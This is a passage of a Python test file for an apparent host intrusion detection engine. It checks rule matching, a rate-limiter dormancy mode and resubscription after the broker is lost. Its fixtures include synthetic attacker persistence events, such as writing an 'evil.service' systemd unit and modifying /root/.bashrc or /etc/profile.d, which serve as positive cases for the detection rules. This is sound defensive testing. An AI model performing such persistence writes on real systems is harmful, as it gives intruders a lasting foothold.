    "Systemd unit created or modified": ("file", [
        {"kind": "OPEN", "filename": "/etc/systemd/system/evil.service", "open_flags": O_WRONLY | 0x40},
        {"kind": "RENAME", "filename": "/home/u/.config/systemd/user/t.timer", "oldname": "/tmp/t"},
    ], [
        {"kind": "OPEN", "filename": "/etc/systemd/system/sshd.service", "open_flags": O_RDONLY},
        {"kind": "OPEN", "filename": "/etc/systemd/system/x.service", "open_flags": O_WRONLY,
         "process_exec_filename": "/usr/bin/dpkg"},                         # an exception
    ]),
    "Shell startup file modified": ("file", [
        {"kind": "OPEN", "filename": "/root/.bashrc", "open_flags": O_WRONLY | 0x400},
        {"kind": "OPEN", "filename": "/etc/profile.d/x.sh", "open_flags": O_WRONLY | 0x40},
    ], [
        {"kind": "OPEN", "filename": "/root/.bashrc", "open_flags": O_RDONLY},
        {"kind": "OPEN", "filename": "/home/n/.bashrc", "open_flags": O_WRONLY | 0x40,
         "process_exec_filename": "/usr/sbin/useradd"},                     # an exception
    ]),
}


def resolved(category: str, rows: list[dict]) -> list[dict]:
    """File rows as the broker gives them: ``path`` (and ``oldpath``) default to the
    name as passed, already canonical in these cases; a case that names them says
    what the kernel's resolution gave (c8/broker/paths.py; tested in test_paths_canon)."""
    if category != "file":
        return rows
    out = []
    for row in rows:
        row = dict(row)
        row.setdefault("path", row.get("filename", ""))
        row.setdefault("oldpath", row.get("oldname", ""))
        out.append(row)
    return out


@pytest.fixture(scope="module")
def default_rules():
    rules, errors = load_rules([default_rules_path()])
    return {r.name: r for r in rules}, errors


def test_every_default_rule_loads(default_rules):
    by, errors = default_rules
    assert errors == []
    assert set(CASES) == set(by)


@pytest.mark.parametrize("name", sorted(CASES))
def test_default_rule_matches_its_event_and_not_benign_ones(default_rules, name):
    by, _ = default_rules
    category, good, benign = CASES[name]
    good, benign = resolved(category, good), resolved(category, benign)
    eng = Engine([by[name]], track_execs=False)
    rows, processes = [], {}
    for i, row in enumerate(good + benign):
        # parent_exec_filename also stands for the lineage table's parent (parent.*,
        # ancestor.*); "container": 1 puts the row in CONTAINERS' container
        row = {k: v for k, v in row.items() if k != "container"}
        row["process_id"] = f"pid{i}"
        if "parent_exec_filename" in row:
            processes[f"pid{i}"] = [4242, "", "", f"parent{i}"]
            processes[f"parent{i}"] = [1, row["parent_exec_filename"], "", ""]
            if "parent_exec_filename" not in schema.empty(category, 0).dtype.names:
                del row["parent_exec_filename"]   # syscall events: only the lineage table has it
        rows.append(row)
    b = batch(category, *rows)
    for i, row in enumerate(good + benign):
        if row.get("container"):
            b["container"][i] = row["container"]
    alerts = eng.evaluate(category, b, Tables(CONTAINERS, processes))
    assert len(alerts) == len(good), [a.event for a in alerts]
    assert {a.event["sensor_monotime_nanos"] for a in alerts} == \
        {1_000_000_000 + i for i in range(len(good))}
    for a in alerts:
        row = good[a.event["sensor_monotime_nanos"] - 1_000_000_000]
        shown = [v for k, v in row.items() if isinstance(v, str) and v not in ("", row["kind"])
                 and k in b.dtype.names]
        assert a.rule == name and "4242" in a.output, a.output
        assert not shown or any(v in a.output for v in shown), a.output



def test_default_subscription_spec_type_checks(default_rules):
    by, _ = default_rules
    spec = Engine(by.values()).subscription_spec()
    assert set(spec["events"]) == {"file", "process", "syscall", "network"}
    for category, sub in spec["events"].items():
        if sub.get("filter"):
            check(parse(sub["filter"]), category)


# ---- the detector process (c8.detections.main) -----------------------------------------
# The broker is replaced by a replay source of synthetic batches: the Detector's
# loop is what is under test; the client library has its own tests.

from c8.detections.main import Detector  # noqa: E402


class ReplaySubscription:
    def __init__(self, messages, ended="broker restarting"):
        self.messages = list(messages)
        self.ended = None
        self.end_reason = ended
        self.closed = False

    def batches(self, timeout=None):
        while self.messages:
            yield self.messages.pop(0)
        self.ended = self.end_reason

    def close(self):
        self.closed = True


class ReplayClient:
    """Hands out prepared subscriptions; None in the script means 'broker down'."""

    script: list = []
    specs: list = []

    def __init__(self, run_dir=None):
        self.run_dir = run_dir

    def subscribe(self, spec):
        ReplayClient.specs.append(spec)
        nxt = ReplayClient.script.pop(0)
        if nxt is None:
            raise ConnectionError("no broker")
        return nxt


def detector_config(tmp_path, rules_text=BASE):
    rules = write(tmp_path, "rules.yaml", rules_text)
    return {"detections": {"rules": [rules]}, "run_dir": str(tmp_path),
            "alert_output": {"outputs": [{"type": "file", "path": str(tmp_path / "alerts.json")}]}}


def read_alerts(tmp_path):
    import json
    p = tmp_path / "alerts.json"
    return [json.loads(x) for x in p.read_text().splitlines()] if p.exists() else []


def limiter_batch(kind, dormancy_s=0, trips=1):
    b = schema.empty("limiter", 1)
    b["kind"] = schema.kind_code("limiter", kind)
    b["dormancy_nanos"] = int(dormancy_s * 1e9)
    b["trips"] = trips
    return b


def shell_batch():
    return batch("process", {"kind": "EXEC", "exec_filename": "/bin/sh"})


def test_detector_sends_alerts_to_outputs(tmp_path):
    det = Detector(detector_config(tmp_path), client_factory=ReplayClient)
    assert det.handle("process", shell_batch(), {}) == 1
    [alert] = read_alerts(tmp_path)
    assert alert["rule"] == "Shell" and alert["output"] == "shell /bin/sh pid 4242"
    det.close()


def test_detector_goes_dormant_on_tripped_and_resumes(tmp_path, caplog):
    det = Detector(detector_config(tmp_path), client_factory=ReplayClient)
    det.engine.processes[b"x"] = ("/bin/x", "")
    det.handle("limiter", limiter_batch("TRIPPED", 30), {})
    assert det.dormant and det.engine.processes == {}
    assert "dormant for 30s" in caplog.text
    assert det.handle("process", shell_batch(), {}) == 0
    det.handle("limiter", limiter_batch("RESUMED"), {})
    assert not det.dormant
    assert det.handle("process", shell_batch(), {}) == 1
    det.close()


def test_detector_resubscribes_after_broker_loss(tmp_path):
    import threading

    stop = threading.Event()
    first = ReplaySubscription([("process", shell_batch(), {})])
    second = ReplaySubscription([("process", shell_batch(), {})], ended="stop")
    ReplayClient.specs = []
    ReplayClient.script = [None, first, second]
    det = Detector(detector_config(tmp_path), client_factory=ReplayClient)
    real_handle = det.handle

    def handle(*args):
        n = real_handle(*args)
        if det.alerts == 2:
            stop.set()
        return n

    det.handle = handle
    t = threading.Thread(target=det.run, args=(stop,), daemon=True)
    t.start()
    t.join(10)
    assert not t.is_alive()
    assert len(ReplayClient.specs) == 3          # broker down, then two subscriptions
    assert ReplayClient.specs[0] == det.engine.subscription_spec()
    assert first.closed and second.closed
    assert [a["rule"] for a in read_alerts(tmp_path)] == ["Shell", "Shell"]
    det.close()


def test_detector_uses_packaged_rules_by_default(tmp_path):
    det = Detector({"run_dir": str(tmp_path), "alert_output": {"outputs": []}},
                   client_factory=ReplayClient)
    assert "Fileless execution" in {r.name for r in det.engine.rules}
